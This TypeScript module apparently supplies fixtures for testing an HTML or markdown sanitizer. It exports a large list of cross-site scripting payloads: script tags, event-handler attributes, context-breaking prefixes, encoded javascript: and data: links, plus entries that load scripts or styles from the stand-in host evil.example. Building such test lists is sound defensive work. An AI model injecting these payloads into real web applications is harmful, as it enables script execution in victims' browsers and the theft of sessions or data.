/** What a browser would run, or be led by, if it were let. */

/** What a browser must never run: it would open a dialog. */
export const run = 'alert(1)';
const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src="javascript:${run}">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button form=x formaction="javascript:${run}">go</button>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} />`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<plaintext>`,
  `<xmp><script>${run}</script></xmp>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
];
const handled = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'details open ontoggle',
  'video><source onerror',
  'audio src onerror',
  'marquee onstart',
  'select autofocus onfocus',
  'a tabindex=1 autofocus onfocus',
  'style onload',
  'p onmouseover',
  'x onclick',
  'svg><set onbegin',
].flatMap((tag) => [
  `<${tag}=${run}>`,
  `<${tag.toUpperCase()}="${run}">`,
  `<${tag.replaceAll(' ', '/')}='${run}'//`,
]);
/** Out of a place that a text stands in, and into code. */
const breaks = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</noscript>',
  '</option></select>',
  '</svg>',
  '</xmp>',
  '%22%3E',
  '&quot;&gt;',
  '\\">',
  '\u2028',
].flatMap((end) => [`${end}<img src=x onerror=${run}>`, `${end}<script>${run}</script>`]);
const attributes = ['"', "'", '`', '" x="', "' x='", '&#34;', '\u00a0'].map(
  (quote) => `${quote} autofocus onfocus=${run} x=${quote}`,
);
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'feed:javascript:',
  'view-source:javascript:',
  '//evil.example/',
  '\\\\evil.example\\',
];
const links = schemes.flatMap((scheme) => [
  `[link](${scheme}${run})`,
  `<${scheme}${run}>`,
  `![picture](${scheme}${run})`,
  `<a href="${scheme}${run}">x</a>`,
]);

export const markup: string[] = [...elements, ...handled, ...breaks, ...attributes, ...links];
